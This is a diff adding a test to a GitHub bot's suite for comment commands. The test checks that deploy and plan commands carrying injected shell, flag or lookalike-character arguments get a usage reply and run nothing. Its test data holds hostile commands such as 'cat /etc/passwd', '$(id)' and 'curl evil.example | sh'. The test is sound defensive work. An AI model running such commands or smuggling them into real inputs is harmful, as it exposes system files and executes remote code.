@@ -432,6 +432,36 @@ describe('comment commands', () => {
     expect(gh.made('POST', '/issues/7/comments')).toHaveLength(1);
   });
 
+  it('refuses shell, flag and lookalike arguments with a reply and runs nothing', async () => {
+    const attempts: [string, RegExp][] = [
+      ['/autostack deploy orders-db; cat /etc/passwd', /Usage: `\/autostack deploy <plan>`/],
+      ['/autostack deploy orders-db && curl evil.example | sh', /Usage: `\/autostack deploy <plan>`/],
+      ['/autostack deploy $(id)', /Usage: `\/autostack deploy <plan>`/],
+      ['/autostack deploy --target=aws_instance.x', /Usage: `\/autostack deploy <plan>`/],
+      ['/autostack deploy orders-db --auto-approve', /Usage: `\/autostack deploy <plan>`/],
+      ['/autostack deploy -- ; cat /etc/passwd', /Usage: `\/autostack deploy <plan>`/],
+      ['/autostack plan --var=x', /`\/autostack plan` takes no arguments/],
+      ['/autostack apply -- ; cat /etc/passwd', /I don't know `\/autostack apply`/],
+      ['/autostack deploy оrders-db', /Usage: `\/autostack deploy <plan>`/],
+      ['／autostack deploy orders-db', /lookalike \(fullwidth or compatibility\) characters, so nothing was run/],
+      ['/autostack ｄeploy orders-db', /lookalike \(fullwidth or compatibility\) characters, so nothing was run/],
+      ['/ａutostack plan', /lookalike \(fullwidth or compatibility\) characters, so nothing was run/],
+    ];
+    for (const [i, [body, reply]] of attempts.entries()) {
+      gh = new FakeGitHub().token();
+      // The strict fake allows only the reaction and the reply: no permission read, deployment, dispatch or review.
+      gh.on('POST', gh.repoPath('/issues/comments/555/reactions'), 201, { id: 1 });
+      gh.on('POST', gh.repoPath('/issues/7/comments'), 201, { id: 6 });
+      await (await probot()).receive({ id: `inj-${i}`, name: 'issue_comment', payload: comment(body) } as never);
+      const posted = gh.made('POST', '/issues/7/comments');
+      expect(posted, body).toHaveLength(1);
+      expect(posted[0]!.body.body, body).toMatch(/^@dev /);
+      expect(posted[0]!.body.body, body).toMatch(reply);
+      expect(posted[0]!.body.body, body).not.toContain('/etc/passwd');
+      gh.verify();
+    }
+  });
+
   it('re-deploys a plan from the deploy branch with a new deployment and a dispatch', async () => {
     gh = new FakeGitHub().token();
     const deployHead = '9'.repeat(40);
